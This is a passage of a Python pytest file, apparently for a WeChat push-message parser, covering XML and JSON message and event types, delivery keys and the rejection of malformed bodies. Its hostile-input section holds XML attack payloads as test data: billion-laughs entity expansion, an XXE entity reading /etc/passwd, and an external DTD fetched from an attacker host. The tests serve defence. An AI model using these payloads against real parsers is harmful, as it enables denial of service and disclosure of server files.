"""wxfunnel.messages: every push type of the protocol in XML and JSON, hostile bodies, passive replies."""

from __future__ import annotations

import dataclasses
import json
import random
from typing import Any

import pytest
import xmltodict

from wxfunnel.protocol import crypto
from wxfunnel.protocol.documents import (
    SUCCESS,
    BodyFormat,
    EncryptedEnvelope,
    MalformedBody,
    parse_document,
    read_envelope,
    render_envelope,
)
from wxfunnel.protocol.messages import (
    ImageMessage,
    LinkMessage,
    LocationEvent,
    LocationMessage,
    MenuEvent,
    Message,
    MiniProgramPageMessage,
    ScanEvent,
    SubscribeEvent,
    SubscribeMsgEvent,
    SubscribeMsgItem,
    TemplateSendJobFinishEvent,
    TextMessage,
    UnknownEvent,
    UnknownMessage,
    UnsubscribeEvent,
    UserEnterTempSessionEvent,
    VideoMessage,
    VoiceMessage,
    delivery_key,
    parse_message,
)
from wxfunnel.protocol.replies import (
    Article,
    ImageReply,
    MusicReply,
    NewsReply,
    Reply,
    TextReply,
    TransferCustomerService,
    VideoReply,
    VoiceReply,
    render_reply,
)

OA = "gh_e136c6e50636"
OPENID = "oMgHVjngRipVsoxg6TuX3vz6glDg"
AT = 1408090651


# --- building pushes the way WeChat writes them (independently of the module under test) --------------------


def _xml_value(value: Any) -> str:
    if isinstance(value, int):
        return str(value)
    if isinstance(value, dict):
        return "".join(_xml_elements(name, item) for name, item in value.items())
    return "<![CDATA[" + str(value).replace("]]>", "]]]]><![CDATA[>") + "]]>"


def _xml_elements(name: str, value: Any) -> str:
    items = value if isinstance(value, list) else [value]
    return "".join(f"<{name}>{_xml_value(item)}</{name}>\n" for item in items)


def xml_body(fields: dict[str, Any]) -> bytes:
    return ("<xml>\n" + "".join(_xml_elements(k, v) for k, v in fields.items()) + "</xml>").encode()


def json_body(fields: dict[str, Any]) -> bytes:
    return json.dumps(fields, ensure_ascii=False).encode()


def push(msg_type: str, **fields: Any) -> dict[str, Any]:
    return {"ToUserName": OA, "FromUserName": OPENID, "CreateTime": AT, "MsgType": msg_type, **fields}


def event(name: str, **fields: Any) -> dict[str, Any]:
    return push("event", Event=name, **fields)


@pytest.fixture(params=[BodyFormat.XML, BodyFormat.JSON])
def fmt(request: pytest.FixtureRequest) -> BodyFormat:
    return request.param


def parsed(fields: dict[str, Any], fmt: BodyFormat) -> Message:
    body = xml_body(fields) if fmt is BodyFormat.XML else json_body(fields)
    found, document = parse_document(body)
    assert found is fmt
    return parse_message(document)


def common(msg_id: str | None = None) -> dict[str, Any]:
    return {"to_user": OA, "openid": OPENID, "create_time": AT, "msg_id": msg_id}


def fields_of(message: Message) -> dict[str, Any]:
    return {f.name: getattr(message, f.name) for f in dataclasses.fields(message) if f.name != "raw"}


# --- documents ----------------------------------------------------------------------------------------------


def test_v2_plaintext_json_push_is_read_as_is() -> None:
    body = (
        b'{"ToUserName":"gh_97417a04a28d","FromUserName":"o9AgO5Kd5ggOC-bXrbNODIiE3bGY","CreateTime":1714037059,'
        b'"MsgType":"event","Event":"debug_demo","debug_str":"hello world"}'
    )
    fmt, document = parse_document(body)
    assert fmt is BodyFormat.JSON
    assert document["CreateTime"] == "1714037059"  # numbers stay decimal text
    message = parse_message(document)
    assert type(message) is UnknownEvent
    assert (message.event, message.openid, message.create_time) == (
        "debug_demo",
        "o9AgO5Kd5ggOC-bXrbNODIiE3bGY",
        1714037059,
    )
    assert message.raw["debug_str"] == "hello world"


def test_a_64_bit_msg_id_in_json_is_kept_exactly() -> None:
    body = (
        b'{"ToUserName":"gh_x","FromUserName":"o-1","CreateTime":1482048670,"MsgType":"text","Content":"hi",'
    )
    body += b'"MsgId":18446744073709551615}'
    message = parse_message(parse_document(body)[1])
    assert message.msg_id == "18446744073709551615"


def test_json_floats_keep_their_text_until_a_field_reads_them() -> None:
    fields = event("LOCATION", Latitude=23.137466, Longitude=113.352425, Precision=119.385040)
    _, document = parse_document(json_body(fields))
    assert document["Precision"] == "119.38504"
    assert parse_message(document) == LocationEvent(
        **common(),
        msg_type="event",
        event="LOCATION",
        latitude=23.137466,
        longitude=113.352425,
        precision=119.38504,
    )


def test_json_true_false_and_null_read_like_xml_text() -> None:
    _, document = parse_document(b'{"a":true,"b":false,"c":null,"d":[true,{"e":false}]}')
    assert document == {"a": "true", "b": "false", "c": None, "d": ["true", {"e": "false"}]}


def test_xml_declaration_whitespace_and_bom_are_accepted() -> None:
    body = b'\xef\xbb\xbf \n<?xml version="1.0" encoding="utf-8"?>\n' + xml_body(
        push("text", Content="hi", MsgId=1)
    )
    fmt, document = parse_document(body)
    assert fmt is BodyFormat.XML
    assert document["Content"] == "hi"


def test_empty_xml_root_is_an_empty_document() -> None:
    assert parse_document(b"<xml/>") == (BodyFormat.XML, {})
    assert parse_document(b"<xml></xml>") == (BodyFormat.XML, {})


def test_user_text_that_looks_like_a_doctype_is_just_text() -> None:
    # Only the prolog is checked for DTDs: inside CDATA this is what the user typed.
    message = parsed(push("text", Content="<!DOCTYPE html><!ENTITY x>", MsgId=1), BodyFormat.XML)
    assert isinstance(message, TextMessage)
    assert message.content == "<!DOCTYPE html><!ENTITY x>"


def test_read_envelope_of_safe_mode_pushes() -> None:
    xml = b"<xml><ToUserName><![CDATA[gh_x]]></ToUserName><Encrypt><![CDATA[abc=]]></Encrypt></xml>"
    assert read_envelope(parse_document(xml)[1]) == EncryptedEnvelope(to_user="gh_x", encrypt="abc=")
    js = b'{"ToUserName":"gh_97417a04a28d","Encrypt":"+qdx1OKC"}'
    assert read_envelope(parse_document(js)[1]) == EncryptedEnvelope(
        to_user="gh_97417a04a28d", encrypt="+qdx1OKC"
    )
    assert read_envelope({"Encrypt": "abc="}) == EncryptedEnvelope(to_user=None, encrypt="abc=")


def test_read_envelope_of_a_plaintext_push_is_none() -> None:
    assert read_envelope(parse_document(xml_body(push("text", Content="hi")))[1]) is None


@pytest.mark.parametrize("encrypt", ["", None, {"a": "b"}, ["a", "b"]])
def test_read_envelope_needs_a_non_empty_string(encrypt: Any) -> None:
    with pytest.raises(MalformedBody, match="Encrypt"):
        read_envelope({"ToUserName": "gh_x", "Encrypt": encrypt})


def test_compat_mode_keeps_both_the_envelope_and_the_plaintext_fields() -> None:
    document = parse_document(xml_body(push("text", Content="hi", MsgId=7, Encrypt="abc=")))[1]
    assert read_envelope(document) == EncryptedEnvelope(to_user=OA, encrypt="abc=")
    assert isinstance(parse_message(document), TextMessage)


# --- messages -----------------------------------------------------------------------------------------------


def test_text(fmt: BodyFormat) -> None:
    message = parsed(push("text", Content="this is a test", MsgId=1234567890123456), fmt)
    assert message == TextMessage(**common("1234567890123456"), msg_type="text", content="this is a test")


def test_image(fmt: BodyFormat) -> None:
    message = parsed(push("image", PicUrl="http://mmbiz/pic", MediaId="media_id", MsgId=1), fmt)
    assert message == ImageMessage(
        **common("1"), msg_type="image", pic_url="http://mmbiz/pic", media_id="media_id"
    )


def test_voice_with_and_without_recognition(fmt: BodyFormat) -> None:
    plain = parsed(push("voice", MediaId="m", Format="amr", MediaId16K="m16", MsgId=2), fmt)
    assert plain == VoiceMessage(
        **common("2"), msg_type="voice", media_id="m", format="amr", recognition=None
    )
    recognized = parsed(push("voice", MediaId="m", Format="amr", Recognition="腾讯微信团队", MsgId=3), fmt)
    assert isinstance(recognized, VoiceMessage)
    assert recognized.recognition == "腾讯微信团队"


@pytest.mark.parametrize("msg_type", ["video", "shortvideo"])
def test_video_and_short_video(fmt: BodyFormat, msg_type: str) -> None:
    message = parsed(push(msg_type, MediaId="m", ThumbMediaId="t", MsgId=4), fmt)
    assert message == VideoMessage(**common("4"), msg_type=msg_type, media_id="m", thumb_media_id="t")


def test_location(fmt: BodyFormat) -> None:
    fields = push(
        "location", Location_X="23.134521", Location_Y="113.358803", Scale="20", Label="位置信息", MsgId=5
    )
    assert parsed(fields, fmt) == LocationMessage(
        **common("5"),
        msg_type="location",
        latitude=23.134521,
        longitude=113.358803,
        scale=20,
        label="位置信息",
    )


def test_link(fmt: BodyFormat) -> None:
    message = parsed(
        push("link", Title="公众平台官网链接", Description="描述", Url="https://mp.weixin.qq.com", MsgId=6),
        fmt,
    )
    assert message == LinkMessage(
        **common("6"),
        msg_type="link",
        title="公众平台官网链接",
        description="描述",
        url="https://mp.weixin.qq.com",
    )


def test_mini_program_page_from_the_official_json_sample() -> None:
    body = (
        b'{"ToUserName":"toUser","FromUserName":"fromUser","CreateTime":1482048670,"MsgType":"miniprogrampage",'
        b'"MsgId":1234567890123456,"Title":"title","AppId":"appid","PagePath":"path","ThumbUrl":"","ThumbMediaId":""}'
    )
    assert parse_message(parse_document(body)[1]) == MiniProgramPageMessage(
        to_user="toUser",
        openid="fromUser",
        create_time=1482048670,
        msg_type="miniprogrampage",
        msg_id="1234567890123456",
        title="title",
        appid="appid",
        page_path="path",
        thumb_url="",
        thumb_media_id="",
    )


def test_mini_program_page_in_xml() -> None:
    fields = push(
        "miniprogrampage",
        Title="t",
        AppId="wxapp",
        PagePath="pages/index?x=1",
        ThumbUrl="u",
        ThumbMediaId="m",
    )
    message = parsed(fields, BodyFormat.XML)
    assert isinstance(message, MiniProgramPageMessage)
    assert (message.appid, message.page_path) == ("wxapp", "pages/index?x=1")


def test_unknown_message_type_is_kept(fmt: BodyFormat) -> None:
    message = parsed(push("hologram", Depth="3", MsgId=8), fmt)
    assert message == UnknownMessage(**common("8"), msg_type="hologram")
    assert message.raw["Depth"] == "3"


def test_an_empty_text_is_an_empty_string(fmt: BodyFormat) -> None:
    message = parsed(push("text", Content="", MsgId=9), fmt)
    assert isinstance(message, TextMessage)
    assert message.content == ""


# --- events -------------------------------------------------------------------------------------------------


def test_plain_follow_has_no_scene(fmt: BodyFormat) -> None:
    assert parsed(event("subscribe"), fmt) == SubscribeEvent(**common(), msg_type="event", event="subscribe")
    assert parsed(event("subscribe", EventKey=""), fmt) == SubscribeEvent(
        **common(), msg_type="event", event="subscribe"
    )


@pytest.mark.parametrize(
    ("event_key", "scene"),
    [
        ("qrscene_123123", "123123"),
        ("qrscene_promo-2024", "promo-2024"),
        ("qrscene_qrscene_x", "qrscene_x"),  # sliced off the front only
        ("qrscene_", None),
        ("last_trade_no_123", None),  # not a QR code: no scene, but the key is kept
        ("x_qrscene_1", None),
    ],
)
def test_follow_through_a_qr_code_carries_its_scene(
    fmt: BodyFormat, event_key: str, scene: str | None
) -> None:
    message = parsed(event("subscribe", EventKey=event_key, Ticket="TICKET"), fmt)
    assert message == SubscribeEvent(
        **common(), msg_type="event", event="subscribe", event_key=event_key, scene=scene, ticket="TICKET"
    )


def test_unsubscribe(fmt: BodyFormat) -> None:
    assert parsed(event("unsubscribe", EventKey=""), fmt) == UnsubscribeEvent(
        **common(), msg_type="event", event="unsubscribe"
    )


@pytest.mark.parametrize("scene", ["123", "promo-2024", "qrscene_not_stripped_on_scan"])
def test_scan_by_a_follower_carries_the_scene_as_is(fmt: BodyFormat, scene: str) -> None:
    message = parsed(event("SCAN", EventKey=scene, Ticket="TICKET"), fmt)
    assert message == ScanEvent(
        **common(), msg_type="event", event="SCAN", event_key=scene, scene=scene, ticket="TICKET"
    )


def test_scan_without_a_scene_is_kept_as_unknown(fmt: BodyFormat) -> None:
    assert parsed(event("SCAN", Ticket="TICKET"), fmt) == UnknownEvent(
        **common(), msg_type="event", event="SCAN"
    )


NOT_SCENES = [
    "x" * 65,  # longer than a scene_str may be
    "春" * 22,  # 66 bytes of UTF-8
    "a" * 2000,  # hostile: would break the channel, touch and stats keys
    "~reserved",  # the URL form of a scene
    "tab\there",  # a control character
    "smile😀",  # beyond U+FFFF
]
# Scenes the admin API creates are scenes the callback attributes (protocol.limits).
SCENES = ["spring poster", "春季", "a/b", "店铺A/二楼", "café", "100%", "#1", "qrscene_x", "春" * 21]


@pytest.mark.parametrize("scene", SCENES)
def test_every_scene_of_the_grammar_is_read_back_from_follows_and_scans(fmt: BodyFormat, scene: str) -> None:
    follow = parsed(event("subscribe", EventKey=f"qrscene_{scene}", Ticket="TICKET"), fmt)
    scan = parsed(event("SCAN", EventKey=scene, Ticket="TICKET"), fmt)
    assert (follow.scene, scan.scene) == (scene, scene)  # type: ignore[attr-defined]


@pytest.mark.parametrize("key", NOT_SCENES)
def test_a_follow_whose_key_is_not_a_valid_scene_is_a_plain_follow(fmt: BodyFormat, key: str) -> None:
    message = parsed(event("subscribe", EventKey=f"qrscene_{key}", Ticket="TICKET"), fmt)
    assert message == SubscribeEvent(
        **common(),
        msg_type="event",
        event="subscribe",
        event_key=f"qrscene_{key}",
        scene=None,
        ticket="TICKET",
    )


@pytest.mark.parametrize("key", NOT_SCENES)
def test_a_scan_whose_key_is_not_a_valid_scene_is_kept_as_unknown(fmt: BodyFormat, key: str) -> None:
    assert parsed(event("SCAN", EventKey=key, Ticket="TICKET"), fmt) == UnknownEvent(
        **common(), msg_type="event", event="SCAN", event_key=key
    )


def test_the_longest_valid_scene_is_kept(fmt: BodyFormat) -> None:
    scene = "live.live_id=1&user_id=" + "9" * 41
    assert len(scene) == 64
    assert parsed(event("subscribe", EventKey=f"qrscene_{scene}"), fmt).scene == scene  # type: ignore[attr-defined]
    assert parsed(event("SCAN", EventKey=scene), fmt).scene == scene  # type: ignore[attr-defined]


@pytest.mark.parametrize("openid", ["o" * 65, "o-user 1", "o#user", "o/../x", "ö-user", "o\tuser", "o.user"])
def test_a_from_user_name_that_is_not_an_openid_is_refused(fmt: BodyFormat, openid: str) -> None:
    with pytest.raises(MalformedBody, match="FromUserName"):
        parsed(dict(push("text", Content="hi"), FromUserName=openid), fmt)


def test_openids_of_both_account_kinds_are_accepted(fmt: BodyFormat) -> None:
    for openid in (OPENID, "o9AgO5Kd5ggOC-bXrbNODIiE3bGY", "oHLG_5Qb1_ys", "o" * 64):
        assert parsed(dict(push("text", Content="hi"), FromUserName=openid), fmt).openid == openid


@pytest.mark.parametrize("name", ["subscribe", "Subscribe", "SUBSCRIBE"])
def test_event_names_match_case_insensitively_and_are_kept_as_sent(name: str) -> None:
    message = parsed(event(name, EventKey="qrscene_7"), BodyFormat.XML)
    assert isinstance(message, SubscribeEvent)
    assert (message.event, message.scene) == (name, "7")


def test_location_event(fmt: BodyFormat) -> None:
    message = parsed(
        event("LOCATION", Latitude="23.137466", Longitude="113.352425", Precision="119.385040"), fmt
    )
    assert message == LocationEvent(
        **common(),
        msg_type="event",
        event="LOCATION",
        latitude=23.137466,
        longitude=113.352425,
        precision=119.38504,
    )


@pytest.mark.parametrize(
    ("name", "key"),
    [
        ("CLICK", "V1001_TODAY_MUSIC"),
        ("click", "V1001_TODAY_MUSIC"),
        ("VIEW", "https://www.qq.com/"),
        ("view_miniprogram", "pages/index/index"),
        ("scancode_push", "rselfmenu_0_1"),
        ("pic_photo_or_album", "rselfmenu_1_1"),
        ("pic_weixin", "rselfmenu_1_2"),
    ],
)
def test_menu_events(fmt: BodyFormat, name: str, key: str) -> None:
    message = parsed(event(name, EventKey=key, MenuId="208379533"), fmt)
    assert message == MenuEvent(**common(), msg_type="event", event=name, event_key=key, menu_id="208379533")


def test_scancode_waitmsg_keeps_its_scan_info(fmt: BodyFormat) -> None:
    info = {"ScanType": "qrcode", "ScanResult": "1"}
    message = parsed(event("scancode_waitmsg", EventKey="6", ScanCodeInfo=info), fmt)
    assert isinstance(message, MenuEvent)
    assert message.raw["ScanCodeInfo"] == info


def test_pic_sysphoto_is_the_deepest_structure_and_is_accepted(fmt: BodyFormat) -> None:
    pics = {"Count": "1", "PicList": {"item": {"PicMd5Sum": "1b5f7c23b5bf75682a53e7b6d163e185"}}}
    message = parsed(event("pic_sysphoto", EventKey="6", SendPicsInfo=pics), fmt)
    assert isinstance(message, MenuEvent)
    assert message.raw["SendPicsInfo"]["PicList"]["item"]["PicMd5Sum"] == "1b5f7c23b5bf75682a53e7b6d163e185"


def test_location_select_keeps_its_location_info(fmt: BodyFormat) -> None:
    info = {"Location_X": "23", "Location_Y": "113", "Scale": "15", "Label": " 广州市海珠区", "Poiname": ""}
    message = parsed(event("location_select", EventKey="6", SendLocationInfo=info), fmt)
    assert isinstance(message, MenuEvent)
    assert message.raw["SendLocationInfo"]["Scale"] == "15"


@pytest.mark.parametrize("status", ["success", "failed:user block", "failed: system failed"])
def test_template_send_job_finish(fmt: BodyFormat, status: str) -> None:
    message = parsed(event("TEMPLATESENDJOBFINISH", MsgID=200163836, Status=status), fmt)
    assert message == TemplateSendJobFinishEvent(
        **common("200163836"), msg_type="event", event="TEMPLATESENDJOBFINISH", status=status
    )


POPUP_ITEMS = [
    {
        "TemplateId": "VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc",
        "SubscribeStatusString": "accept",
        "PopupScene": "2",
    },
    {
        "TemplateId": "9Xx8vO1ZzL_rxW5q8Tu_pBNNwB2bqKhb2uP6XVRKBK4",
        "SubscribeStatusString": "reject",
        "PopupScene": "2",
    },
]


def test_subscribe_msg_popup_with_repeated_list_in_xml() -> None:
    message = parsed(
        event("subscribe_msg_popup_event", SubscribeMsgPopupEvent={"List": POPUP_ITEMS}), BodyFormat.XML
    )
    assert message == SubscribeMsgEvent(
        **common(),
        msg_type="event",
        event="subscribe_msg_popup_event",
        items=(
            SubscribeMsgItem(template_id="VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc", status="accept"),
            SubscribeMsgItem(template_id="9Xx8vO1ZzL_rxW5q8Tu_pBNNwB2bqKhb2uP6XVRKBK4", status="reject"),
        ),
    )


def test_subscribe_msg_popup_with_a_single_list_in_xml() -> None:
    wrapper = {"List": POPUP_ITEMS[0]}
    message = parsed(event("subscribe_msg_popup_event", SubscribeMsgPopupEvent=wrapper), BodyFormat.XML)
    assert isinstance(message, SubscribeMsgEvent)
    assert message.items == (SubscribeMsgItem(template_id=POPUP_ITEMS[0]["TemplateId"], status="accept"),)


@pytest.mark.parametrize(
    ("entries", "statuses"),
    [(POPUP_ITEMS, ["accept", "reject"]), (POPUP_ITEMS[0], ["accept"])],
    ids=["array", "object"],
)
def test_subscribe_msg_popup_in_mini_program_json_has_a_top_level_list(
    entries: Any, statuses: list[str]
) -> None:
    message = parsed(event("subscribe_msg_popup_event", List=entries), BodyFormat.JSON)
    assert isinstance(message, SubscribeMsgEvent)
    assert [item.status for item in message.items] == statuses


def test_subscribe_msg_change(fmt: BodyFormat) -> None:
    wrapper = {"List": {"TemplateId": "T1", "SubscribeStatusString": "reject"}}
    message = parsed(event("subscribe_msg_change_event", SubscribeMsgChangeEvent=wrapper), fmt)
    assert isinstance(message, SubscribeMsgEvent)
    assert message.items == (SubscribeMsgItem(template_id="T1", status="reject"),)


def test_subscribe_msg_sent(fmt: BodyFormat) -> None:
    entry = {"TemplateId": "T1", "MsgID": "1700827132819554304", "ErrorCode": "0", "ErrorStatus": "success"}
    message = parsed(event("subscribe_msg_sent_event", SubscribeMsgSentEvent={"List": entry}), fmt)
    assert isinstance(message, SubscribeMsgEvent)
    assert message.items == (
        SubscribeMsgItem(
            template_id="T1", msg_id="1700827132819554304", error_code="0", error_status="success"
        ),
    )


def test_subscribe_msg_list_entries_must_be_objects_with_a_template() -> None:
    with pytest.raises(MalformedBody, match="TemplateId"):
        parsed(
            event("subscribe_msg_change_event", List=[{"SubscribeStatusString": "accept"}]), BodyFormat.JSON
        )
    with pytest.raises(MalformedBody, match="List"):
        parsed(event("subscribe_msg_change_event", List=["T1"]), BodyFormat.JSON)


def test_user_enter_temp_session(fmt: BodyFormat) -> None:
    message = parsed(event("user_enter_tempsession", SessionFrom="sessionFrom"), fmt)
    assert message == UserEnterTempSessionEvent(
        **common(), msg_type="event", event="user_enter_tempsession", session_from="sessionFrom"
    )


def test_unknown_event_is_kept(fmt: BodyFormat) -> None:
    message = parsed(event("teleport", EventKey="x"), fmt)
    assert message == UnknownEvent(**common(), msg_type="event", event="teleport", event_key="x")


# --- identity, privacy, immutability ------------------------------------------------------------------------


def test_delivery_key_of_a_message_uses_its_msg_id() -> None:
    message = parsed(push("text", Content="hi", MsgId="18446744073709551615"), BodyFormat.XML)
    assert delivery_key(message) == f"{OPENID}#{AT}#18446744073709551615"


def test_delivery_key_of_an_event_uses_event_and_key() -> None:
    assert delivery_key(parsed(event("subscribe", EventKey="qrscene_7"), BodyFormat.XML)) == (
        f"{OPENID}#{AT}#subscribe#qrscene_7"
    )
    assert delivery_key(parsed(event("unsubscribe"), BodyFormat.XML)) == f"{OPENID}#{AT}#unsubscribe#"


def test_delivery_key_of_an_event_with_a_msg_id_uses_the_msg_id() -> None:
    message = parsed(event("TEMPLATESENDJOBFINISH", MsgID="200163836", Status="success"), BodyFormat.XML)
    assert delivery_key(message) == f"{OPENID}#{AT}#200163836"


def test_delivery_key_of_a_message_without_msg_id_falls_back_to_its_type() -> None:
    assert delivery_key(parsed(push("hologram"), BodyFormat.JSON)) == f"{OPENID}#{AT}#hologram"


def test_delivery_key_keeps_a_menu_key_of_wechats_largest_size_readable() -> None:
    key = "k" * 128  # a menu key is at most 128 bytes
    assert delivery_key(parsed(event("CLICK", EventKey=key), BodyFormat.XML)) == f"{OPENID}#{AT}#CLICK#{key}"


@pytest.mark.parametrize(
    "key", ["https://example.com/" + "p" * 1004, "键" * 2700, "x" * 8000]
)  # a VIEW URL of 1024 bytes; hostile keys up to the 8 KiB field limit
def test_delivery_key_of_a_long_event_key_is_bounded_and_still_tells_pushes_apart(key: str) -> None:
    first = delivery_key(parsed(event("VIEW", EventKey=key), BodyFormat.XML))
    other = delivery_key(parsed(event("VIEW", EventKey=key[:-1] + "!"), BodyFormat.XML))
    assert first.startswith(f"{OPENID}#{AT}#sha256:")
    assert len(first.encode()) <= 128
    assert first != other
    assert first == delivery_key(parsed(event("VIEW", EventKey=key), BodyFormat.JSON))


def test_delivery_key_of_the_largest_fields_stays_far_below_dynamodbs_key_limit() -> None:
    largest = dict(push("text", Content="hi", MsgId="😀" * 64), FromUserName="o" * 64, CreateTime=10**18 - 1)
    assert len(delivery_key(parsed(largest, BodyFormat.XML)).encode()) <= 64 + 18 + 256 + 2


SAMPLES = [
    push("text", Content="my secret text", MsgId=1),
    push("location", Location_X="23.1", Location_Y="113.3", Scale="20", Label="my secret street", MsgId=2),
    push("link", Title="my secret title", Description="d", Url="https://secret.example", MsgId=3),
    event("subscribe", EventKey="qrscene_campaign"),
    event("user_enter_tempsession", SessionFrom="my secret session"),
]


@pytest.mark.parametrize("fields", SAMPLES, ids=lambda f: f.get("Event", f["MsgType"]))
def test_repr_shows_neither_the_openid_nor_what_the_user_sent(fields: dict[str, Any]) -> None:
    text = repr(parsed(fields, BodyFormat.XML))
    assert OPENID not in text
    assert "secret" not in text
    assert "raw" not in text
    assert OA in text


def test_messages_are_frozen_and_compare_without_raw() -> None:
    message = parsed(push("text", Content="hi", MsgId=1), BodyFormat.XML)
    with pytest.raises(dataclasses.FrozenInstanceError):
        message.openid = "someone else"  # type: ignore[misc]
    assert message == TextMessage(**common("1"), msg_type="text", content="hi", raw={"different": "raw"})
    assert hash(message) == hash(TextMessage(**common("1"), msg_type="text", content="hi"))


def test_every_wire_field_stays_available_in_raw() -> None:
    message = parsed(push("text", Content="hi", MsgId=1, bizmsgmenuid="101"), BodyFormat.XML)
    assert message.raw["bizmsgmenuid"] == "101"
    assert fields_of(message)["content"] == "hi"


# --- hostile and malformed bodies ---------------------------------------------------------------------------

DTD_REFUSED = "DTD or entity declarations are not allowed"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>&lol9;</ToUserName></xml>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><Content>&xxe;</Content></xml>"""

PARAMETER_ENTITY = b"""<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<xml><Content>x</Content></xml>"""


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"<!DOCTYPE xml><xml><Content>x</Content></xml>", id="doctype"),
        pytest.param(b'<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://x/d.dtd"><xml/>', id="external-dtd"),
        pytest.param(b"<!ENTITY x 'y'><xml/>", id="entity"),
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(XXE, id="xxe"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
    ],
)
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(MalformedBody) as caught:
        parse_document(body)
    assert str(caught.value) == DTD_REFUSED


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b'<?xml-stylesheet href="x"?><xml/>', "processing instructions"),
        (b"<xml><?php evil() ?><Content>x</Content></xml>", "processing instructions"),
        (b"<!-- hello --><xml/>", "comments"),
        (b"<xml><Content>&xxe;</Content></xml>", "not well-formed"),  # an undeclared entity
        (b"<foo><Content>x</Content></foo>", "root element"),
        (b"<xmlx/>", "root element"),
        (b"<xml>text only</xml>", "root element"),
        (b"<xml><Content>x</Content>", "not well-formed"),
        (b"<xml><a></b></xml>", "not well-formed"),
        (b"<xml/><xml/>", "not well-formed"),
    ],
)
def test_other_hostile_or_broken_xml_is_refused(body: bytes, reason: str) -> None:
    with pytest.raises(MalformedBody, match=reason):
        parse_document(body)


def nested(depth: int) -> dict[str, Any]:
    value: Any = "deep"
    for level in range(depth, 0, -1):
        value = {f"L{level}": value}
    return value


@pytest.mark.parametrize(("depth", "ok"), [(4, True), (5, False)])
def test_nesting_deeper_than_four_levels_is_refused(fmt: BodyFormat, depth: int, ok: bool) -> None:
    fields = {**push("text", Content="x"), **nested(depth)}
    body = xml_body(fields) if fmt is BodyFormat.XML else json_body(fields)
    if ok:
        parse_document(body)
        return
    with pytest.raises(MalformedBody, match="nested too deeply"):
        parse_document(body)


def test_pathologically_deep_json_is_refused_without_crashing() -> None:
    with pytest.raises(MalformedBody, match="nested too deeply"):
        parse_document(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}")


def test_pathologically_deep_xml_is_refused_without_crashing() -> None:
    with pytest.raises(MalformedBody, match="nested too deeply"):
        parse_document(b"<xml>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</xml>")


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            '<?xml version="1.0" encoding="GBK"?><xml><Content>中文</Content></xml>'.encode("gbk"),
            id="gbk-xml",
        ),
        pytest.param("<xml><Content>é</Content></xml>".encode("latin-1"), id="latin-1-xml"),
        pytest.param('{"Content":"中文"}'.encode("gbk"), id="gbk-json"),
        pytest.param("<xml/>".encode("utf-16"), id="utf-16"),
        pytest.param(b"<xml><Content>\xed\xa0\x80</Content></xml>", id="utf-8-encoded-surrogate"),
    ],
)
def test_bodies_that_are_not_utf_8_are_refused(body: bytes) -> None:
    with pytest.raises(MalformedBody, match="UTF-8"):
        parse_document(body)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "neither XML nor JSON"),
        (b"   \n", "neither XML nor JSON"),
        (b"success", "neither XML nor JSON"),
        (b"[1, 2]", "neither XML nor JSON"),
        (b'{"a": 1', "not well-formed JSON"),
        (b'{"a": NaN}', "NaN"),
        (b'{"a": Infinity}', "NaN"),
        (b'{"a": "\\ud800"}', "not valid Unicode"),
        (b'{"\\udfff": "a"}', "not valid Unicode"),
        (b'{"a": [[1]]}', "nested arrays"),
    ],
)
def test_broken_json_is_refused(body: bytes, reason: str) -> None:
    with pytest.raises(MalformedBody, match=reason):
        parse_document(body)


@pytest.mark.parametrize("missing", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
def test_every_common_field_is_required(fmt: BodyFormat, missing: str) -> None:
    fields = push("text", Content="hi", MsgId=1)
    del fields[missing]
    with pytest.raises(MalformedBody, match=missing):
        parsed(fields, fmt)


def test_an_event_needs_its_event_name() -> None:
    with pytest.raises(MalformedBody, match="Event"):
        parsed(push("event", EventKey="x"), BodyFormat.XML)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("FromUserName", "o" * 129),
        ("ToUserName", "g" * 129),
        ("MsgType", "t" * 65),
        ("FromUserName", ""),
        ("FromUserName", {"nested": "x"}),
        ("FromUserName", ["a", "b"]),
        ("CreateTime", "abc"),
        ("CreateTime", "1.5"),
        ("CreateTime", "-1"),
        ("CreateTime", "1" * 19),
        ("CreateTime", "١٢٣"),  # Unicode digits are not integers on the wire
        ("MsgId", "9" * 65),
        ("MsgId", {"x": "1"}),
    ],
)
def test_common_fields_must_be_short_well_formed_strings(name: str, value: Any) -> None:
    fields = push("text", Content="hi", MsgId=1)
    fields[name] = value
    with pytest.raises(MalformedBody, match=name):
        parsed(fields, BodyFormat.JSON)


def test_a_repeated_common_field_is_refused() -> None:
    body = xml_body(push("text", Content="hi")).replace(
        b"</xml>", b"<FromUserName>other</FromUserName></xml>"
    )
    with pytest.raises(MalformedBody, match="FromUserName"):
        parse_message(parse_document(body)[1])


@pytest.mark.parametrize(
    "fields",
    [
        push("location", Location_X="north", Location_Y="113.3", Scale="20", Label="x"),
        push("location", Location_X="nan", Location_Y="113.3", Scale="20", Label="x"),
        push("location", Location_X="23.1", Location_Y="inf", Scale="20", Label="x"),
        push("location", Location_X="23.1", Location_Y="113.3", Scale="twenty", Label="x"),
        event("LOCATION", Latitude="23.1", Longitude="113.3"),
        event("LOCATION", Latitude="23.1", Longitude="113.3", Precision={"a": "b"}),
    ],
